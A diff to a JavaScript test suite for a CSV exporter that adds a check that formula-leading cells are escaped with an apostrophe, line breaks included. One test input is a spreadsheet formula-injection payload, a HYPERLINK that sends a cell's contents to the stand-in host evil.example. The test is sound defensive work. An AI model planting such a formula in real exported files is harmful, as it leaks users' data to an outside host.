@@ -10,7 +10,27 @@ describe('CSV export', () => {
       { header: 'Note', value: (row) => row.note },
       { header: 'Formula', value: (row) => row.formula },
     ]);
-    expect(text).toBe('Name,Note,Formula\r\n"DEMO\\ann, the ""first""","line one\nline two","\'=1+2"');
+    expect(text).toBe('Name,Note,Formula\r\n"DEMO\\ann, the ""first""","line one\nline two",\'=1+2');
+  });
+
+  it('neutralises a formula whatever follows it, line breaks included', async () => {
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Open")\nmore text',
+      '+1\r\n2',
+      '-2+3\nx',
+      '@SUM(A1)\n',
+      '\t=1',
+      '\r=1',
+    ];
+    const text = await toCsv(
+      attacks.map((value) => ({ value })),
+      [{ header: 'Value', value: (row) => row.value }],
+    );
+    const { parse } = await import('papaparse');
+    const cells = parse<string[]>(text, { newline: '\r\n' })
+      .data.slice(1)
+      .map((row) => row[0]);
+    expect(cells).toEqual(attacks.map((value) => `'${value}`));
   });
 
   it('writes timestamps as UTC ISO and local time, empty when missing', async () => {
